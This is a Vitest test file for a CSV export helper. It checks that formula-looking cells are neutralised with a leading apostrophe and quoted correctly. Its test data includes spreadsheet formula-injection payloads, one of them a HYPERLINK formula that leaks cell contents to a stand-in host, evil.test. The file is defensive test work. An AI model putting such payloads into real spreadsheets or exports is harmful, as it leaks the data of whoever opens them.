import { describe, expect, it } from "vitest";
import { csvText, neutralizeCell } from "./csv";

describe("csv", () => {
  it("turns every formula-looking cell into text and leaves the rest as it is", () => {
    for (const payload of [
      '=HYPERLINK("http://evil.test/?leak="&J3&J4,"Steam login")',
      "=2+5@evil.test",
      "+7 999",
      "-1+1",
      "@SUM(A1)",
      "\tcmd",
      "\rcmd",
    ])
      expect(neutralizeCell(payload)).toBe(`'${payload}`);
    for (const plain of ["AAAA-BBBB", "buyer@players.example", "12.50", "2026-11-26T10:00:00.000Z", ""])
      expect(neutralizeCell(plain)).toBe(plain);
  });

  it("quotes after neutralising, so a payload stays one readable cell", () => {
    const text = csvText(
      ["login", "email"],
      [['=HYPERLINK("http://evil.test/?leak="&J3,"x")', "=2+5@evil.test"]],
    );
    expect(text).toBe(
      `login,email\r\n"'=HYPERLINK(""http://evil.test/?leak=""&J3,""x"")",'=2+5@evil.test\r\n`,
    );
  });
});
